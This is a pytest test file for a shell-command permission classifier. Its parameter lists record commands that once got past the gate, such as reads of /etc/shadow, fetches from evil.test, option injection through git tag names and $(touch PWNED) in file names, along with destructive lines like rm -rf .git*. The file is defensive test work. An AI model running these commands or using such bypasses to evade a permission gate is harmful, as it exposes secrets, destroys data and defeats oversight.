"""Lines that once passed the gate wrongly, with their real effects; and harmless similar lines, which must pass."""

import os
import stat
from dataclasses import replace
from importlib.resources import files
from pathlib import Path

import pytest

from policy.classify import classify
from policy.model.action import RunScript
from policy.model.assessment import Assessment
from policy.model.facts import Facts, GitSource, GitSourceKind, Kind, PathFact
from policy.model.tier import Tier
from policy.rules.rule_file import RuleError
from policy.rules.rulebook import RuleBook, parse_rules
from policy.toml.profile import parse_profile

BOOK = RuleBook(
    {item.name: item.read_text() for item in (files("policy") / "commands").iterdir() if item.name.endswith(".toml")}
)
PROFILE = parse_profile((files("profiles") / "default.toml").read_text(), "default.toml")


def look(path: str) -> PathFact:
    real = os.path.realpath(path)
    try:
        mode = os.stat(real).st_mode
    except (OSError, ValueError):
        return PathFact(real, Kind.MISSING)
    return PathFact(real, Kind.FOLDER if stat.S_ISDIR(mode) else Kind.FILE if stat.S_ISREG(mode) else Kind.OTHER)


@pytest.fixture(scope="module")
def facts(tmp_path_factory: pytest.TempPathFactory) -> Facts:
    """A workspace with a repository's folders, and an empty home beside it."""
    top = Path(os.path.realpath(tmp_path_factory.mktemp("machine")))
    for folder in ("work/.git/hooks", "work/.vscode", "work/src/.git", "work/docs", "home"):
        (top / folder).mkdir(parents=True)
    for name in ("a.txt", "b.txt", ".git/HEAD"):
        (top / "work" / name).write_text("x\n")
    return Facts(str(top / "work"), str(top / "home"), ("/usr/bin",), PROFILE.system, (), look, lambda name: None)


def judge(script: str, facts: Facts) -> Assessment:
    return classify(RunScript(script, facts.workspace), facts, BOOK, PROFILE)


# fmt: off
NOT_A_READ = [
    # a word that becomes several moves the others to other places
    ("uniq n*.txt",                                      "the second match was overwritten"),
    ("xxd n*.txt",                                       "the second match was overwritten"),
    ("find . -name '[ab].txt' -exec uniq {} +",          "{} + is many words: b.txt was overwritten"),
    ("find . -execdir uniq {} +",                        "so it is beside -execdir"),
    ("date -d 0*",                                       "the second match would set the clock"),
    ("uniq -f 1* a.txt",                                 "a second match takes the place of the input"),
    ("ls | xargs -I{} -n2 uniq",                         "-n after -I cancels it"),
    ("ls | xargs -I{} -L1 uniq a.txt",                   "so does -L"),
    ("ls | xargs -i -l uniq a.txt",                      "and -l"),
    ("ls | xargs --replace={} --max-lines=1 uniq a.txt", "and their long names"),
    # output that was taken for one harmless word
    ("uniq $(git rev-parse a.txt b.txt)",                "two names of files: b.txt was overwritten"),
    ("uniq $(git rev-parse -- a.txt b.txt)",             "two names of files"),
    ("git diff $(git rev-list --oneline -1 HEAD)",       "the subject of a commit was --output=PWNED"),
    ("git diff $(git rev-list --pretty=oneline -1 HEAD)", "the same by another flag"),
    ("git diff $(git rev-list --objects HEAD)",          "names of files are printed beside the ids"),
    ("npm_config_manage_package_manager_versions=true; pnpm ls", "is exported: the sandbox has set it"),
    ("git diff $(git log -1 --format=%s)",               "the subject of a commit"),
    ("git diff $(git log -1 --format=%H%n%s)",           "the subject behind the id"),
    ("git diff $(git log -1 --format=%H --format=%s)",   "the last format counts"),
    ("git diff $(git log --format=%H -n1 -p)",           "the change behind the id"),
    ("uniq $(git log --format=%H)",                      "as many words as there are commits"),
    ("[ $(wc -l < a.txt) -gt 5 -o -v 'a[$(make)]' ]",    "without the number, other operators have other operands"),
    ("[ -v $(cat a.txt) ]",                              "the text of a file, which bash evaluates"),
    ("git diff $(git rev-list HEAD)",                    "as many words as there are commits"),
    ("git diff $(git describe --always --dirty=' --output=PWNED')", "the mark is any text"),
    ("uniq $(git describe --always HEAD HEAD~1)",        "two words"),
    ("uniq $(git merge-base --all a b)",                 "as many words as there are bases"),
    ("git log $(git describe --tags --abbrev=0)..HEAD",  "a tag --output=PWNED came with the clone"),
    ("git log \"$(git rev-parse --abbrev-ref HEAD)\"",   "so did a branch"),
    ("b=$(git branch --show-current); git log $b",       "the same, by a variable"),
    ("git log $(git symbolic-ref --short HEAD)",         "and by another command"),
    ("b=$(git rev-parse HEAD)$IFS--output=PWNED; git log $b", "what is pasted to it splits"),
    ("b=$(git rev-parse HEAD); b=\"$b --output=PWNED\"; git log $b", "so does what it becomes a part of"),
    ("b=$(git rev-parse HEAD)' --output=PWNED'; git log $b", "in one word"),
    ("b=$(git rev-parse HEAD); git log ${b/?/ --output=PWNED}", "a part replaced"),
    ("b=$(git rev-parse HEAD); read b < list.txt; git log $b", "another value"),
    ("b=$(git rev-parse HEAD); b+=' --output=PWNED'; git log $b", "a longer value"),
    ("git log x$(git branch --show-current) $(git branch)", "many names"),
    ("b=$(git branch); git log x$b",                     "they have blanks between them"),
    ("find . -print0 | xargs -0 sed -n 1p < list.txt",   "another list than that of find"),
    ("find . -print0 | xargs -0 sed -n \"$(xargs -0 sed -n 1p)\" a.txt", "nothing says who reads the list"),
    ("find . -print0 | xargs -0 -d ' ' sed -n 1p",       "the later flag wins: a name has blanks"),
    ("find . -print0 | xargs -0 -a list.txt sed -n 1p",  "a list from a file"),
    ("find . -print0 | xargs sed -n 1p",                 "no zero bytes for xargs"),
    ("find . -print0 -printf '-i\\0' | xargs -0 sed -n 1p", "find prints more than paths"),
    ("find . -print0 | { xargs -0 sed -n 1p < list.txt; }", "another list, in a group"),
    ("find . -print0 | xargs -0 sh -c 'xargs -0 sed -n 1p < list.txt'", "in an inner script"),
    ("find() { cat list.txt; }; find . -print0 | xargs -0 sed -n 1p", "another find"),
    ("find . -print0 | cat list.txt | xargs -0 sed -n 1p", "another program between them"),
    ("find . -print0 | xargs -0 uniq",                   "the second of them is written"),
    ("find . -print0 | xargs -0 sed -i s/a/b/",          "edits what it finds"),
    ("bash -n +n a.sh",                                  "+n takes -n back"),
    ("bash -n -c 'a'",                                   "not a file"),
    ("bash -n \"$f\" a.sh",                              "f may be +n"),
    ("bash -n * a.sh",                                   "so may a name"),
    ("zsh -n a.sh",                                      "zsh reads its start-up files first"),
    ("for i in 1p 'w out'; do sed -n \"$i\" a.txt; done", "one of the programs writes"),
    ("for i in 1 '1e id;'; do sed -n \"${i}p\" a.txt; done", "one of the programs runs another"),
    ("read -a _ < list.txt",                             "an array is not what nobody wants"),
    ("_=x; ls",                                          "an assignment that the environment already holds"),
    ("n=$(stat -c %n a.txt); echo $((n))",               "a name, which bash evaluates"),
    ("n=$(stat -c %s%n a.txt); echo $((n))",             "a size and a name"),
    ("n=$(stat -c %s \"$f\"); echo $((n))",              "f may be another format"),
    ("n=$(git rev-list --count --left-right a...b); echo $((n))", "two numbers"),
    ("n=$(stat -c %Y a.txt); sed $n a.txt",              "a time before 1970 begins with a minus"),
    ("declare -f x=1",                                   "not the name of a function"),
    ("declare -fx ls",                                   "exports a function"),
    ("uniq $(wc -l a.txt)",                              "wc prints the name too"),
    ("cd $x && sort $(pwd)",                             "a folder's name may hold ` -o`"),
    # names of variables that were taken for something else
    ("printf -v x -v 'a[$(touch PWNED)]' y",             "the second -v was evaluated"),
    ("printf -vx -v'a[$(touch PWNED)]' y",               "so it was in one word"),
    ("read -r PATH <<< .; ls",                           "-r took PATH for its value, and ./ls ran"),
    ("read -ra PATH <<< .; ls",                          "an array of that name is the variable too"),
    ("read -p x -a BASH_ENV <<< ./evil.sh; bash -c ls",  "whatever stands before it"),
    # flags and operands with more meaning than was thought
    ("getent -s x/evil passwd",                          "libnss_x/evil.so.2 was loaded"),
    ("nm @evil.opt",                                     "flags out of a file: --plugin was loaded"),
    ("objdump @evil.opt",                                "the same of its sisters"),
    ("git --help log",                                   "ran the viewer that the settings named"),
    ("git -h log",                                       "so did this"),
    ("ip link s eth0 down",                              "`s` is `set` before it is `show`"),
    ("ip l s eth0 down",                                 "so it is here"),
    ("crontab",                                          "without a word it installs its input"),
    ("crontab -u root",                                  "for whomever"),
    ("rpm -i x.rpm",                                     "installs, where -q is not given"),
    ("rpm -q --qf '%{SUMMARY:expand}' bash",             "a package's own text becomes a macro that runs"),
    ("sar -o out 1 1",                                   "writes"),
    ("pidstat -e ./evil.sh",                             "runs"),
    ("sensors -s",                                       "sets"),
    ("nvidia-smi -r",                                    "resets"),
    ("lspci -q",                                         "asks a name server"),
    ("blkid -w out",                                     "writes"),
    ("lastlog $X",                                       "-C clears"),
    ("file -C -m list.txt",                              "writes a compiled list"),
    ("file $X",                                          "may become -C"),
    ("diff3 $X a b c",                                   "--diff-program runs"),
    ("zstdcat $X",                                       "-o writes"),
    ("zless '+!touch PWNED' a.gz",                       "it is less"),
    ("xmllint http://evil.test/x.xml",                   "fetches"),
    ("openssl x509 -in http://evil.test/c -noout",       "fetches"),
    ("rpm -qp https://evil.test/x.rpm",                  "fetches"),
    ("awk 1 /inet/tcp/0/evil.test/80",                   "gawk connects"),
    ("awk 'BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}1'",     "reads what nobody named"),
    ("bash -c 'cat \"$1\"' _ /etc/shadow",               "the argument is what it reads"),
    ("git log -L1,5:.env",                               "the past of a secret file"),
    # a neighbour's flags: what takes a value in one program is a switch in the next, and the file after it is read
    ("od -s /etc/shadow",                                "-s takes no value, as it does in hexdump"),
    ("more -p /etc/shadow",                              "-p takes no value, as it does in less"),
    ("zdiff -p /etc/shadow a.txt",                       "nor here"),
    ("ack -C root /etc/shadow",                          "-C takes a number only"),
    ("ag -A root /etc/shadow",                           "so does -A"),
    ("ack --match=root /etc/shadow",                     "the pattern was given, so all operands are files"),
    ("ack -f /etc/shadow",                                "-f takes no pattern"),
    ("readelf -e /etc/shadow",                           "-e takes no value, as it does in addr2line"),
    ("zstdgrep --include root /etc/shadow",              "a script that knows no such flag, so root is the pattern"),
    ("less --header /etc/shadow",                        "some take no value, and show it"),
    ("lolcat /etc/shadow",                               "printed it in colour"),
    ("ul /etc/shadow",                                   "printed it"),
    ("colcrt /etc/shadow",                               "printed it"),
    ("figlet -f /etc/shadow x",                          "read it for a font"),
    ("who /etc/shadow",                                  "read it for a list of logins"),
    ("last -f /etc/shadow",                              "so did this"),
    ("info /etc/shadow",                                 "read it for a manual"),
    ("jo a=%/etc/shadow",                                "printed it in base64"),
    ("jo a:=/etc/shadow",                                "reads it for JSON"),
    # names and words that are programs
    ("diffstat '$(touch PWNED).gz'",                     "a shell unpacks it, and ran the name"),
    ("diffstat *",                                       "such a name may be there"),
    ("clang-format @evil.opt",                           "flags out of a file: -i changed a.c"),
    ("ar t @evil.opt",                                   "flags out of a file: --plugin is loaded"),
    ("jar tf @evil.opt",                                 "flags out of a file"),
    ("javap @evil.opt",                                  "flags out of a file"),
    ("javap http://evil.test/A.class",                   "fetches"),
    ("unrar l @/etc/shadow",                             "a list of names"),
    ("xmlstarlet sel -t -v 'document(\"http://evil.test\")' a.xml", "fetched it, --net or not"),
    ("xmlstarlet sel -t -c \"document('/etc/x.xml')\" a.xml", "printed it"),
    ("xmllint --valid a.xml",                            "fetched what the document names"),
    ("xmllint --c14n a.xml",                             "so did this"),
    ("awk 'BEGIN{SYMTAB[\"ARGV\"][1]=\"/etc/shadow\"}1' a.txt", "another name for ARGV"),
    ("pip debug --local out",                            "short for --local-log, and wrote it"),
    ("pip check --local out",                            "so it is here"),
    ("vulkaninfo --json",                                "writes a file"),
    ("php-cgi -l a.txt",                                 "loaded the extension that ./php.ini names"),
    ("php-cgi -v",                                       "read that, too"),
    ("darker --check a.py",                              "runs the linters that pyproject.toml names"),
    ("husky --version",                                  "takes it for a folder, and makes git run what is in there"),
    ("rush --help",                                      "installs the version that rush.json names, and runs it"),
    ("rdmd version",                                     "compiles version.d, and runs it"),
    ("vala version",                                     "runs it"),
    ("staticcheck version",                              "builds the package of that name"),
    ("mdl version",                                      "obeys .mdlrc, which is code"),
    ("kubeconform version",                              "fetches schemas for the file of that name"),
    ("vercel version",                                   "publishes the folder of that name"),
    ("surge help",                                       "so does this"),
    # "only prints its version", which it does not
    ("echo '!touch PWNED' | ed -v",                      "ran it"),
    ("echo ':!touch PWNED' | ex -v",                     "ran it"),
    ("echo 'exec touch PWNED' | tclsh --version",        "ran it"),
    ("echo 'exec touch PWNED' | tclsh -v",               "ran it"),
    ("as -v",                                            "wrote a.out"),
    ("ninja -v",                                         "built"),
    ("ctest -v",                                         "ran the tests"),
    ("ghci -v",                                          "runs its input"),
    ("erl --version",                                    "runs its input"),
    ("ftp -V",                                           "runs its input, `!` included"),
    ("nslookup --version",                               "asks for what its input says"),
    ("ssh-keygen -h",                                    "makes a key"),
]

DANGEROUS = [
    ("rm -rf .git*",                                     "all versions are gone"),
    ("rm -rf .gi?",                                      "all versions are gone"),
    ("rm -rf ./.g*t",                                    "all versions are gone"),
    ("rm -rf */.git",                                    "those of a repository inside this one"),
    ("rm -rf .git/objects",                              "all versions are gone"),
    ("rm .git/HEAD",                                     "and with them the way to them"),
    ("mv .gi* src/",                                     "moved is gone, too"),
    ("mv .vsc* x",                                       "what an editor runs"),
    ("cp -t .gi?/hooks a.txt",                           "what git runs"),
    ("tee .gi*/config < a.txt",                          "what git obeys"),
    ("chmod -R a+w .gi*",                                "what git obeys"),
    ("find . -type f -delete",                           "a type is true of nearly everything"),
    ("find . -name '*' -delete",                         "so is this name"),
    ("find . -not -name x -delete",                      "all but one"),
    ("find . -name x -o -delete",                        "or everything else"),
    ("find . ! \\( -name x \\) -delete",                 "all but one"),
    ("find . -path './.git/*' -delete",                  "all versions"),
    ("zip -m x.zip a.txt",                               "the files are gone when they are packed"),
    ("zip -rm x.zip src",                                "so is the folder"),
    ("git stash clear",                                  "cannot be undone"),
]

HARMLESS = [
    ("uniq a.txt",                                       Tier.READ,  "one input"),
    ("sort src/*.txt",                                   Tier.READ,  "more inputs are inputs"),
    ("sed -n 1p src/*.txt",                              Tier.READ,  "the program comes first"),
    ("find . -name '*.py' -exec wc -l {} +",             Tier.READ,  "many inputs"),
    ("find . -name '*.py' -exec sort {} +",              Tier.READ,  "none of which starts with a dash"),
    ("ls | xargs -I{} -n1 cat {}",                       Tier.READ,  "harmless either way"),
    ("git log origin/$(git branch --show-current)..",    Tier.READ,  "one name, behind what is certain"),
    ("b=$(git rev-parse HEAD); git log $b..",            Tier.READ,  "bash splits no id"),
    ("b=x/$(git branch --show-current 2>/dev/null); git log $b", Tier.READ, "nor a name"),
    ("find src -print0 2>/dev/null | xargs -0 -n1 sed -n 1p", Tier.READ, "paths that begin with src"),
    ("find . -name '*.sh' -exec bash -n {} \\;",          Tier.READ,  "only looks for mistakes"),
    ("for f in *.sh; do bash -n \"$f\"; done",            Tier.READ,  "no switch has a dot in it"),
    ("for i in {1..3}; do sed -n \"${i}p\" a.txt; done",  Tier.READ,  "three programs, all of which only print"),
    ("while read -r a _; do echo $a; done < a.txt",      Tier.READ,  "the rest is wanted by nobody"),
    ("n=$(stat -c %s a.txt); echo $((n / 1024))",        Tier.READ,  "a number, or nothing"),
    ("n=$(git rev-list --count main..HEAD); echo $((n + 1))", Tier.READ, "likewise"),
    ("declare -F; declare -f greet",                     Tier.READ,  "shows what is defined"),
    ("git show $(git symbolic-ref -q HEAD)",             Tier.READ,  "refs/heads/.."),
    ("git describe --tags $(git rev-list --tags --max-count=1)", Tier.READ, "one id"),
    ("git diff $(git merge-base HEAD main)",             Tier.READ,  "one id"),
    ("git show $(git rev-parse --short HEAD)",           Tier.READ,  "one id"),
    ("git show $(git log -1 --format=%H main)",          Tier.READ,  "one id, or nothing"),
    ("[ $(wc -l < a.txt) -gt 5 ] && echo long",          Tier.READ,  "a number, or an error"),
    ("git config user.name",                             Tier.READ,  "a key alone is shown"),
    ("printf -v x %s y; echo $x",                        Tier.READ,  "a plain name"),
    ("read -r line < a.txt; echo \"$line\"",             Tier.READ,  "a plain name"),
    ("ip a s",                                           Tier.READ,  "here it is `show`"),
    ("crontab -l",                                       Tier.READ,  "lists"),
    ("rpm -qi bash",                                     Tier.READ,  "shows"),
    ("gzip -dc a.gz | head",                             Tier.READ,  "to its output"),
    ("unzip -l a.zip",                                   Tier.READ,  "lists"),
    ("git clean -nd",                                    Tier.READ,  "only says what it would do"),
    ("git --version",                                    Tier.READ,  "prints a text"),
    ("rm -f .git/index.lock",                            Tier.WRITE, "a lock that was left behind"),
    ("rm -rf .tox*",                                     Tier.WRITE, "no name that starts like that is locked"),
    ("find . -name '*.pyc' -delete",                     Tier.WRITE, "a name picks"),
    ("find . \\( -name '*.pyc' -o -name '*.pyo' \\) -delete", Tier.WRITE, "two names pick"),
    ("find . -name '*.pyc' -not -path './venv/*' -delete", Tier.WRITE, "leaving out is no widening"),
    ("find src -type f -delete",                         Tier.WRITE, "a folder that was named"),
    ("cp *.txt docs/",                                   Tier.WRITE, "the last one stays the last"),
    ("od -c a.txt",                                      Tier.READ,  "dumps"),
    ("ack -C 3 main src",                                Tier.READ,  "searches"),
    ("more a.txt",                                       Tier.READ,  "prints"),
    ("git diff | diffstat -p1",                          Tier.READ,  "of its input"),
    ("diffstat p.diff",                                  Tier.READ,  "a plain name"),
    ("clang-format -n src/a.c",                          Tier.READ,  "only says"),
    ("xmllint --noout --schema b.xml a.xml",             Tier.READ,  "checks"),
    ("xmlstarlet sel -t -v '//a/@b' a.xml",              Tier.READ,  "selects"),
    ("jo name=Jane age=30 x=@a.txt",                     Tier.READ,  "with a file that is here"),
    ("black --check .",                                  Tier.READ,  "only says"),
    ("golangci-lint version",                            Tier.READ,  "prints a text"),
    ("yarn test",                                        Tier.EXECUTE, "a script of the project"),
]
# fmt: on


@pytest.mark.parametrize(("script", "why"), NOT_A_READ)
def test_what_got_past_the_gate(script: str, why: str, facts: Facts) -> None:
    cloned = replace(
        facts, tracked=lambda source: ("refs/tags/--output=PWNED",) if source == GitSource(GitSourceKind.DASHED) else ()
    )
    assert max(judge(script, cloned).tiers) > Tier.READ, why


@pytest.mark.parametrize(("script", "why"), DANGEROUS)
def test_what_cannot_be_undone(script: str, why: str, facts: Facts) -> None:
    assert max(judge(script, facts).tiers) >= Tier.DANGEROUS, why


@pytest.mark.parametrize(("script", "tier", "why"), HARMLESS)
def test_their_harmless_neighbours(script: str, tier: Tier, why: str, facts: Facts) -> None:
    assert max(judge(script, facts).tiers) is tier, why


def test_a_cluster_of_flags_takes_no_value() -> None:
    """`-ra=` would make `-r` swallow the word after it, and what that names would be judged by nobody."""
    with pytest.raises(RuleError, match="every letter"):
        parse_rules('[x]\nwhy = "reads"\nflags = "-ra="\n', "x.toml")
